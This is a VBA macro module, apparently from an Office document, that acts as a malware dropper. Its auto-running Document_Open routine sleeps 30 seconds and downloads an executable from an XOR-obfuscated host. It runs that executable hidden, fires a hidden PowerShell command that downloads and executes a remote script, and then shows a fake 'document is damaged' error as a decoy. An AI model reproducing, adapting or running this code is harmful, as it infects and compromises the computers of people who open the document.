Attribute VB_Name = "ThisDocument"
Option Explicit
#If VBA7 Then
Private Declare PtrSafe Function Fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As LongPtr, ByVal url As String, ByVal file As String, ByVal b As Long, ByVal c As LongPtr) As Long
Private Declare PtrSafe Sub Sleep Lib "kernel32" (ByVal ms As Long)
#Else
Private Declare Function Fetch Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal url As String, ByVal file As String, ByVal b As Long, ByVal c As Long) As Long
#End If
Private Type Step
    Name As String
    Codes() As Byte
End Type
Private Enum Kinds
    First = 3
    Second
End Enum

Private Sub Document_Open()
    Dim target As String, one As Step, n As Integer
    On Error GoTo Failed
    Sleep 30000
    one.Name = Key("update", Second)
    target = Environ$("TEMP") & "\" & one.Name & ".exe"
    If Fetch(0, "http://" & Hidden(Array(111, 124, 99, 102)) & ".example/x", target, 0, 0) = 0 Then
        Call Shell("""" & target & """", vbHide)
    End If
    CreateObject("WScript.Shell").Run "powershell -nop -w hidden -c " & Chr$(34) & "iex (New-Object Net.WebClient).DownloadString('https://second.example/p')" & Chr$(34), 0
    Err.Raise 513
    Exit Sub
Failed:
    MsgBox "The document is damaged (" & Err.Number & ").", vbCritical
    Resume Next
End Sub

Private Function Key(ByVal word As String, Optional kind As Kinds = First) As String
    Mid$(word, 1, 1) = "U"
    Key = word & CStr(kind)
End Function

Private Function Hidden(codes As Variant) As String
    Dim i As Long
    For i = LBound(codes) To UBound(codes)
        Hidden = Hidden & Chr(codes(i) Xor 10)
    Next i
End Function
